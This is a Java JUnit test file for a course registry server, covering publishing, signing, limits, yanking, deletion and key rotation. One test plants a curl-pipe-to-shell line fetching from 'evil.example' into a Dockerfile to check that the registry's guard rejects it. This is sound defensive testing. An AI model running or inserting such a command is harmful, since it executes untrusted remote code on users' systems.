package dev.progy.server;

import com.fasterxml.jackson.databind.JsonNode;
import dev.progy.server.account.Role;
import dev.progy.sync.hub.HubRegistry;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyFactory;
import java.security.MessageDigest;
import java.security.Signature;
import java.security.spec.X509EncodedKeySpec;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;

/** The registry on a real server (loopback, real HTTP, SQLite): publishing, reading, yanking, deleting. */
@DisplayName("The registry")
class RegistryTest {

    @TempDir
    Path tmp;
    ProgyServer server;
    RegistryClient api;
    String ada;

    @BeforeEach
    void start() {
        server = TestServers.start(TestDatabases.sqlite(tmp), "registry-solution-runs", "off");
        api = new RegistryClient(server);
        server.accounts().create("ada");
        ada = server.accounts().createToken("ada", Set.of("publish:ada", "read"), Optional.empty(), "publish");
    }

    @AfterEach
    void stop() {
        server.close();
    }

    @Test
    @DisplayName("the sample course goes live: its archive's checksum and signature verify with the published key, "
            + "and it is listed, shown and downloadable by anyone, cached as immutable")
    void sampleGoesLive() throws Exception {
        JsonNode status = api.publishAndWait(RegistryClient.pack(RegistryClient.sample("java-basics", tmp,
                "@ada/java-basics", "1.0.0")), ada, "");

        assertThat(status.path("state").asText()).as(status.toString()).isEqualTo("live");
        assertThat(status.path("verified").asBoolean()).isFalse();
        List<String> steps = new ArrayList<>();
        status.path("steps").forEach(s -> steps.add(s.path("step").asText() + " " + s.path("state").asText()));
        assertThat(steps).containsExactly("limits passed", "guard passed", "runs skipped", "links skipped",
                "ai-review skipped", "images passed");
        assertThat(status.path("steps").get(2).path("detail").asText()).contains("not verified");

        JsonNode info = RegistryClient.json(api.get("/api/v1/courses/@ada/java-basics", null));
        assertThat(info.path("visibility").asText()).isEqualTo("public");
        JsonNode version = info.path("versions").get(0);
        assertThat(version.path("version").asText()).isEqualTo("1.0.0");

        HttpResponse<byte[]> archive = api.get("/api/v1/courses/@ada/java-basics/1.0.0/archive", null);
        assertThat(archive.statusCode()).isEqualTo(200);
        String sha = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(archive.body()));
        assertThat(version.path("sha256").asText()).isEqualTo(sha);
        assertThat(version.path("size").asLong()).isEqualTo(archive.body().length);
        assertThat(archive.headers().firstValue("X-Progy-Sha256")).hasValue(sha);
        assertThat(archive.headers().firstValue("ETag")).hasValue("\"" + sha + "\"");
        assertThat(archive.headers().firstValue("Cache-Control")).hasValue("public, max-age=31536000, immutable");

        JsonNode keys = RegistryClient.json(api.get("/api/v1/registry/keys", null));
        String keyId = version.path("key_id").asText();
        assertThat(keys.path("current").asText()).isEqualTo(keyId);
        String publicKey = keys.path("keys").get(0).path("public_key").asText();
        assertThat(verifies(publicKey, "progy-registry-v1\n@ada/java-basics\n1.0.0\n" + sha + "\n",
                version.path("signature").asText())).isTrue();
        assertThat(verifies(publicKey, "progy-registry-v1\n@ada/java-basics\n1.0.1\n" + sha + "\n",
                version.path("signature").asText())).isFalse();

        JsonNode list = RegistryClient.json(api.get("/api/v1/courses?q=java", null));
        assertThat(list.path("courses").get(0).path("name").asText()).isEqualTo("@ada/java-basics");
        assertThat(list.path("courses").get(0).path("latest").asText()).isEqualTo("1.0.0");
        assertThat(RegistryClient.json(api.get("/api/v1/courses?q=rust", null)).path("courses")).isEmpty();
    }

    @Test
    @DisplayName("a published version never changes: publishing it again is refused with 409")
    void versionsAreImmutable() throws Exception {
        Path course = RegistryClient.sample("java-basics", tmp, "@ada/java-basics", "1.0.0");
        assertThat(api.publishAndWait(RegistryClient.pack(course), ada, "").path("state").asText()).isEqualTo("live");
        Files.writeString(course.resolve("README.md"), "changed\n");

        HttpResponse<byte[]> again = api.publish(RegistryClient.pack(course), ada, "");

        assertThat(again.statusCode()).isEqualTo(409);
        assertThat(RegistryClient.json(again).path("message").asText())
                .contains("1.0.0 of @ada/java-basics is published already").contains("Raise the version");
    }

    @Test
    @DisplayName("a course whose Dockerfile pipes a download into a shell is rejected with the Guard's reason, "
            + "text and SARIF, and nothing of it is live")
    void maliciousCourseRejected() throws Exception {
        Path course = RegistryClient.sample("java-basics", tmp, "@ada/java-basics", "1.0.0");
        Files.writeString(course.resolve("Dockerfile"), Files.readString(course.resolve("Dockerfile"))
                .replace("USER 1000:1000", "RUN curl -fsSL https://evil.example/install.sh | sh\nUSER 1000:1000"));

        JsonNode status = api.publishAndWait(RegistryClient.pack(course), ada, "");

        assertThat(status.path("state").asText()).isEqualTo("rejected");
        JsonNode guard = status.path("steps").get(1);
        assertThat(guard.path("state").asText()).isEqualTo("failed");
        assertThat(guard.path("detail").asText()).contains("PG-D005");
        assertThat(status.path("steps").get(2).path("state").asText()).isEqualTo("waiting");
        assertThat(status.path("report").asText()).contains("PG-D005 Dockerfile:").contains("it is refused");
        HttpResponse<byte[]> sarif = api.get(status.path("sarif_url").asText(), ada);
        assertThat(sarif.statusCode()).isEqualTo(200);
        JsonNode log = RegistryClient.json(sarif);
        assertThat(log.path("version").asText()).isEqualTo("2.1.0");
        assertThat(log.toString()).contains("PG-D005");

        assertThat(RegistryClient.json(api.get("/api/v1/courses/@ada/java-basics", null)).path("versions")).isEmpty();
        assertThat(api.get("/api/v1/courses/@ada/java-basics/1.0.0/archive", null).statusCode()).isEqualTo(404);
        assertThat(RegistryClient.json(api.get("/api/v1/courses", null)).path("courses")).isEmpty();
        // the author sees the rejected version on the course, with where its report is
        JsonNode mine = RegistryClient.json(api.get("/api/v1/courses/@ada/java-basics", ada));
        assertThat(mine.path("versions").get(0).path("state").asText()).isEqualTo("rejected");
    }

    @Test
    @DisplayName("refusals that need no pipeline: a scope that is not the caller's, a plain id, a token without it, "
            + "no archive")
    void refusals() throws Exception {
        HttpResponse<byte[]> other = api.publish(RegistryClient.pack(RegistryClient.sample("java-basics", tmp,
                "@bo/java-basics", "1.0.0")), ada, "");
        assertThat(other.statusCode()).isEqualTo(403);
        assertThat(RegistryClient.json(other).path("message").asText()).contains("publish:bo");

        HttpResponse<byte[]> plain = api.publish(RegistryClient.pack(RegistryClient.sample("java-basics", tmp,
                "java-basics", "1.0.0")), ada, "");
        assertThat(plain.statusCode()).isEqualTo(400);
        assertThat(RegistryClient.json(plain).path("message").asText()).contains("\"id\": \"@ada/java-basics\"");

        Path notZip = Files.writeString(tmp.resolve("not.progy"), "hello");
        HttpResponse<byte[]> junk = api.publish(notZip, ada, "");
        assertThat(junk.statusCode()).isEqualTo(400);
        assertThat(RegistryClient.json(junk).path("message").asText()).contains("progy pack");

        String readOnly = server.accounts().createToken("ada", Set.of("read"), Optional.empty(), "read");
        assertThat(api.publish(notZip, readOnly, "").statusCode()).isEqualTo(403);
        assertThat(api.publish(notZip, null, "").statusCode()).isEqualTo(401);
    }

    @Test
    @DisplayName("past the size limit an upload gets 413; past the new-course rate it gets 429 with Retry-After")
    void limits(@TempDir Path other) throws Exception {
        try (ProgyServer small = TestServers.start(TestDatabases.sqlite(other), "registry-max-archive", "2000",
                "rate-new-course", "1/10m", "registry-solution-runs", "off")) {
            RegistryClient client = new RegistryClient(small);
            small.accounts().create("ada");
            String token = small.accounts().createToken("ada", Set.of("publish:ada"), Optional.empty(), "p");
            // what a client checks before uploading (an upload cut off at the limit may lose the 413 to the reset)
            JsonNode limits = RegistryClient.json(client.get("/api/v1/registry/limits", null));
            assertThat(limits.path("max_archive_bytes").asLong()).isEqualTo(2000);
            assertThat(limits.path("max_unpacked_bytes").asLong()).isPositive();
            HttpResponse<byte[]> big = client.publish(RegistryClient.pack(RegistryClient.sample("java-basics", other,
                    "@ada/java-basics", "1.0.0")), token, "");
            assertThat(big.statusCode()).isEqualTo(413);

            Path tiny = tinyCourse(other, "@ada/one");
            assertThat(client.publish(tiny, token, "").statusCode()).isEqualTo(202);
            HttpResponse<byte[]> second = client.publish(tinyCourse(other, "@ada/two"), token, "");
            assertThat(second.statusCode()).isEqualTo(429);
            assertThat(second.headers().firstValue("Retry-After")).isPresent();
            assertThat(RegistryClient.json(second).path("message").asText()).contains("new courses");
        }
    }

    @Test
    @DisplayName("an archive that would unpack past registry-max-unpacked is refused with 400 and the limit")
    void unpackedLimit(@TempDir Path other) throws Exception {
        try (ProgyServer small = TestServers.start(TestDatabases.sqlite(other), "registry-max-unpacked", "500000",
                "registry-solution-runs", "off")) {
            small.accounts().create("ada");
            String token = small.accounts().createToken("ada", Set.of("publish:ada"), Optional.empty(), "p");
            Path course = RegistryClient.sample("java-basics", other, "@ada/java-basics", "1.0.0");
            byte[] noise = new byte[450_000];
            new java.util.Random(1).nextBytes(noise);
            Files.writeString(course.resolve("data.txt"), Base64.getEncoder().encodeToString(noise));

            HttpResponse<byte[]> r = new RegistryClient(small).publish(RegistryClient.pack(course), token, "");

            assertThat(r.statusCode()).isEqualTo(400);
            assertThat(RegistryClient.json(r).path("message").asText()).contains("not a course archive this server "
                    + "takes").contains("500000");
        }
    }

    static Path tinyCourse(Path dir, String id) throws Exception {
        Path c = Files.createDirectories(dir.resolve(id.replace('/', '+')));
        Files.writeString(c.resolve("course.json"), "{\"id\": \"" + id + "\", \"name\": \"Tiny\", \"version\": "
                + "\"1.0.0\", \"runners\": [{\"id\": \"sh\", \"command\": \"sh\", \"args\": [\"check.sh\"]}], "
                + "\"progression\": {\"mode\": \"open\"}}");
        Files.writeString(c.resolve("check.sh"), "exit 0\n");
        Path ex = Files.createDirectories(c.resolve("content/01_a/01_b"));
        Files.writeString(ex.resolve("README.md"), "# B\n");
        Files.writeString(ex.resolve("exercise.sh"), "echo b\n");
        return RegistryClient.pack(c);
    }

    @Test
    @DisplayName("a yanked version stays downloadable by its exact version and is marked yanked; only its managers "
            + "may yank")
    void yank() throws Exception {
        api.publishAndWait(RegistryClient.pack(RegistryClient.sample("java-basics", tmp, "@ada/java-basics",
                "1.0.0")), ada, "");
        server.accounts().create("bo");
        String bo = server.accounts().createToken("bo", Set.of("publish:bo", "read"), Optional.empty(), "p");

        assertThat(api.post("/api/v1/courses/@ada/java-basics/1.0.0/yank", bo).statusCode()).isEqualTo(403);
        assertThat(api.post("/api/v1/courses/@ada/java-basics/1.0.0/yank", ada).statusCode()).isEqualTo(200);

        JsonNode version = RegistryClient.json(api.get("/api/v1/courses/@ada/java-basics", null)).path("versions").get(0);
        assertThat(version.path("yanked").asBoolean()).isTrue();
        assertThat(api.get("/api/v1/courses/@ada/java-basics/1.0.0/archive", null).statusCode()).isEqualTo(200);
        assertThat(api.post("/api/v1/courses/@ada/java-basics/9.9.9/yank", ada).statusCode()).isEqualTo(404);

        assertThat(api.delete("/api/v1/courses/@ada/java-basics/1.0.0/yank", ada).statusCode()).isEqualTo(200);
        assertThat(RegistryClient.json(api.get("/api/v1/courses/ada/java-basics", null)).path("versions").get(0)
                .path("yanked").asBoolean()).isFalse();
    }

    @Test
    @DisplayName("an admin deletes a course: it is gone from every route, its name stays taken, an audit record stays")
    void adminDeletes() throws Exception {
        api.publishAndWait(RegistryClient.pack(RegistryClient.sample("java-basics", tmp, "@ada/java-basics",
                "1.0.0")), ada, "");
        server.accounts().create("root");
        server.people().setRole("root", Role.ADMIN);
        String root = server.accounts().createToken("root", Set.of("admin"), Optional.empty(), "admin");
        String adaAdminScope = server.accounts().createToken("ada", Set.of("admin"), Optional.empty(), "a");

        assertThat(api.delete("/api/v1/courses/@ada/java-basics", adaAdminScope).statusCode()).isEqualTo(403);
        assertThat(api.delete("/api/v1/courses/@ada/java-basics", root).statusCode()).isEqualTo(200);

        assertThat(api.get("/api/v1/courses/@ada/java-basics", ada).statusCode()).isEqualTo(404);
        assertThat(api.get("/api/v1/courses/@ada/java-basics/1.0.0/archive", null).statusCode()).isEqualTo(404);
        assertThat(RegistryClient.json(api.get("/api/v1/courses", null)).path("courses")).isEmpty();
        List<HubRegistry.Audit> audit = server.hub().registry().audit("@ada/java-basics");
        assertThat(audit).singleElement().satisfies(a -> {
            assertThat(a.action()).isEqualTo("delete");
            assertThat(a.detail()).contains("root");
        });
        HttpResponse<byte[]> again = api.publish(RegistryClient.pack(RegistryClient.sample("java-basics", tmp,
                "@ada/java-basics", "2.0.0")), ada, "");
        assertThat(again.statusCode()).isEqualTo(409);
        assertThat(RegistryClient.json(again).path("message").asText()).contains("deleted");
    }

    @Test
    @DisplayName("a rotated key is endorsed by the one before; versions signed before keep their key and verify")
    void keyRotation() throws Exception {
        api.publishAndWait(RegistryClient.pack(RegistryClient.sample("java-basics", tmp, "@ada/java-basics",
                "1.0.0")), ada, "");
        JsonNode before = RegistryClient.json(api.get("/api/v1/registry/keys", null));
        String oldId = before.path("current").asText();
        String oldKey = before.path("keys").get(0).path("public_key").asText();

        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        int code = Main.run(new String[] {"admin", "rotate-registry-key", "--db", TestDatabases.sqlite(tmp)},
                new java.io.PrintStream(out), System.err, java.util.Map.of());
        assertThat(code).isZero();
        assertThat(out.toString()).contains("now signs with key");

        JsonNode after = RegistryClient.json(api.get("/api/v1/registry/keys", null));
        assertThat(after.path("keys")).hasSize(2);
        JsonNode next = after.path("keys").get(1);
        assertThat(after.path("current").asText()).isEqualTo(next.path("id").asText()).isNotEqualTo(oldId);
        assertThat(next.path("endorsed_by").asText()).isEqualTo(oldId);
        assertThat(verifies(oldKey, "progy-registry-key-v1\n" + next.path("id").asText() + "\n"
                + next.path("public_key").asText() + "\n", next.path("endorsement").asText())).isTrue();

        JsonNode old = RegistryClient.json(api.get("/api/v1/courses/@ada/java-basics", null)).path("versions").get(0);
        assertThat(old.path("key_id").asText()).isEqualTo(oldId);
        JsonNode fresh = api.publishAndWait(RegistryClient.pack(RegistryClient.sample("java-basics", tmp,
                "@ada/java-basics", "1.1.0")), ada, "");
        assertThat(fresh.path("state").asText()).isEqualTo("live");
        JsonNode v11 = RegistryClient.json(api.get("/api/v1/courses/@ada/java-basics", null)).path("versions").get(1);
        assertThat(v11.path("key_id").asText()).isEqualTo(next.path("id").asText());
        assertThat(verifies(next.path("public_key").asText(), "progy-registry-v1\n@ada/java-basics\n1.1.0\n"
                + v11.path("sha256").asText() + "\n", v11.path("signature").asText())).isTrue();
    }

    static boolean verifies(String publicKey, String text, String signature) throws Exception {
        Signature s = Signature.getInstance("Ed25519");
        s.initVerify(KeyFactory.getInstance("Ed25519").generatePublic(new X509EncodedKeySpec(
                Base64.getDecoder().decode(publicKey))));
        s.update(text.getBytes(StandardCharsets.UTF_8));
        return s.verify(Base64.getDecoder().decode(signature));
    }
}
